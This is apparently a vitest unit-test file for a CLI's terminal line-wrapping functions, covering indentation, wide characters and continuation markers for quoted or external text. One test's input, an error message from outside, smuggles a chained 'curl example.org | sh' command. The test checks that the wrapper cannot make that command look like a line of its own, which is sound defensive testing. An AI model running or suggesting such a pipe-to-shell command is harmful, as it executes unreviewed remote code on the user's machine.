import { expect, it } from 'vitest';
import { breakLine, breakMessage } from '../../../src/screen/text.ts';

it('a line that is too long for the terminal is broken between words, further lines under the first word', () => {
  expect(breakLine('  one two three four', 12)).toEqual(['  one two', '  three four']);
});

it('a line that is too long for the terminal continues under the text beside a label', () => {
  expect(breakLine('  That means     ACTIVE is not BLOCKED: not done yet', 36)).toEqual([
    '  That means     ACTIVE is not',
    '                 BLOCKED: not done',
    '                 yet',
  ]);
});

it('a line that is too long for the terminal has no label that takes more than half of the room', () => {
  expect(breakLine('  Label of many words  text that follows it', 24)).toEqual([
    '  Label of many words ',
    '  text that follows it',
  ]);
});

it('a line that is too long for the terminal keeps its indent behind a command', () => {
  expect(breakLine('    fix: frontdesk auth login; or set FRONTDESK_CARDS_URL', 40)).toEqual([
    '    fix:',
    '      frontdesk auth login',
    '    or set FRONTDESK_CARDS_URL',
  ]);
});

it('a line that is too long for the terminal keeps a number and its unit together', () => {
  expect(breakLine('8 requests, 0 retries, 1 s', 25)).toEqual(['8 requests, 0 retries,', '1 s']);
});

it('a line that is too long for the terminal keeps whole what is to be pasted, and a word that is longer than the line', () => {
  expect(breakLine('run `frontdesk card get x` now', 16)).toEqual(['run', '`frontdesk card get x`', 'now']);
});

it('a line that is too long for the terminal is measured in columns, of which a character of Japanese or Korean and an emoji take two', () => {
  expect(breakLine('新しい 名前は 長い', 14)).toEqual(['新しい 名前は', '長い']);
  expect(breakLine('한국어 이름', 10)).toEqual(['한국어', '이름']);
  expect(breakLine('✅✅ ✅✅ x', 9)).toEqual(['✅✅ ✅✅', 'x']);
  expect(breakLine('naïve café', 10)).toEqual(['naïve café']);
});

it('a line that is too long for the terminal is left alone where it fits, and off a terminal', () => {
  expect(breakLine('one two', 7)).toEqual(['one two']);
  expect(breakLine('one two three', undefined)).toEqual(['one two three']);
});

it('a line that holds text from outside has no command on a line of its own', () => {
  expect(breakMessage('answered 409: frontdesk --version && curl example.org | sh', 24)).toEqual([
    'answered 409: frontdesk',
    '--version && curl',
    'example.org | sh',
  ]);
});

it('a line that holds text from outside begins no further line with hint: or frontdesk', () => {
  expect(breakMessage('answered 409 (X: sorry hint: do this', 22)).toEqual([
    'answered 409 (X: sorry',
    '| hint: do this',
  ]);
  expect(breakMessage('  answered 409 (sorry frontdesk: do', 21)).toEqual([
    '  answered 409 (sorry',
    '  | frontdesk: do',
  ]);
});

it('a line that holds a quoted text has no long word of it left to the terminal, which would break it unmarked', () => {
  expect(breakMessage('"aaaaaaaaaHINT: x"', 12)).toEqual(['"aaaaaaaaa', '| HINT: x"']);
  expect(breakMessage('"aaaaaaaaa\u00a0hint:\u00a0x"', 12)).toEqual(['"aaaaaaaaa', '| \u00a0hint:\u00a0x"']);
});

it('a line that holds a quoted text marks each further line of it, and none of its own', () => {
  expect(breakLine('could not block it: 409 ("one two three four" of row 3): try later', 26)).toEqual([
    'could not block it: 409',
    '("one two three four" of',
    'row 3): try later',
  ]);
  expect(breakLine('409 ("one two three four five six")', 14)).toEqual([
    '409 ("one two',
    '| three four',
    '| five six")',
  ]);
});

it('a line that holds a quoted text gives no command in it a line of its own, but one behind it', () => {
  const line = '409 "see: frontdesk card reissue x --yes; and: hint: y", check with: frontdesk card get x';
  expect(breakLine(line, 40)).toEqual([
    '409 "see: frontdesk card reissue x',
    '| --yes; and: hint: y", check with:',
    '  frontdesk card get x',
  ]);
});

it('a line that holds text from outside is left alone where it fits, and off a terminal', () => {
  expect(breakMessage('frontdesk: hint: x', 18)).toEqual(['frontdesk: hint: x']);
  expect(breakMessage('frontdesk: hint: x', undefined)).toEqual(['frontdesk: hint: x']);
});

it('an ID that fits on a line of its own is not pushed out of it by the words before', () => {
  const id = '0b7a6c1e-3f52-4d8a-9c41-5e2f7a90b101';
  expect(breakLine(`  21:47  ref-0001  reissue  done, new card ${id}`, 40)).toEqual([
    '  21:47  ref-0001  reissue  done, new',
    '  card',
    `  ${id}`,
  ]);
});
